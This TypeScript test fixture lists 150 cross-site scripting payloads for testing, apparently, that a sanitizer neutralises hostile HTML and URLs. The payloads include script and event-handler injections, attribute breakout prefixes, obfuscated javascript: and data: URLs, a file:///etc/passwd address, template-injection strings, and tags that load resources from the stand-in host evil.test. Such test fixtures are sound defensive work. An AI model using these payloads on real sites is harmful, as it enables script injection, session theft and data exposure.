// biome-ignore-all lint/suspicious/noTemplateCurlyInString: a payload that looks like a template

/** Hostile contents of an article, a name or a message: each would call `pwned()` or request another host if it ran. */
const bodies: readonly string[] = [
  '<script>pwned()</script>',
  '<script src=//evil.test/a.js></script>',
  '<img src=x onerror=pwned()>',
  '<img src=//evil.test/a.png>',
  '<svg onload=pwned()>',
  '<svg><script>pwned()</script></svg>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
  '<body onload=pwned()>',
  '<details open ontoggle=pwned()>',
  '<video><source onerror=pwned()></video>',
  '<audio src=x onerror=pwned()>',
  '<iframe src=javascript:parent.pwned()></iframe>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<iframe src=//evil.test/></iframe>',
  '<object data=javascript:pwned()></object>',
  '<embed src=//evil.test/a.swf>',
  '<link rel=stylesheet href=//evil.test/a.css>',
  '<style>@import "//evil.test/a.css";</style>',
  '<base href=//evil.test/>',
  '<meta http-equiv=refresh content="0;url=//evil.test/">',
  '<form action=//evil.test/><button autofocus>Continuar</button></form>',
  '<input autofocus onfocus=pwned()>',
  '<marquee onstart=pwned()>x</marquee>',
  '<math><mi//xlink:href="javascript:pwned()">x</mi></math>',
  '<template><script>pwned()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
];

/** Prefixes by which a text could break out of the attribute or element that contains it. */
const breakouts: readonly ((body: string) => string)[] = [
  (body) => body,
  (body) => `">${body}`,
  (body) => `'/>${body}`,
  (body) => `--></title></textarea></style></script>${body}`,
  (body) => `]]>\u0000${body}`,
];

/** Addresses that must be used neither for a link nor for a picture. */
const addresses: readonly string[] = [
  'javascript:pwned()',
  'JaVaScRiPt:pwned()',
  ' javascript:pwned()',
  'java\tscript:pwned()',
  'java\nscript:pwned()',
  '\u0001javascript:pwned()',
  'javascript://%0apwned()',
  'javascript&colon;pwned()',
  'vbscript:pwned()',
  'data:text/html,<script>pwned()</script>',
  'data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+',
  'data:image/svg+xml,<svg onload=pwned()>',
  'blob:null/pwned',
  'file:///etc/passwd',
  'filesystem:x',
  'view-source:x',
  'about:srcdoc',
  'ws://evil.test/a',
  '${pwned()}',
  '{{constructor.constructor("pwned()")()}}',
];

/** All 150 payloads. */
export const payloads: readonly string[] = [...breakouts.flatMap((breakout) => bodies.map(breakout)), ...addresses];
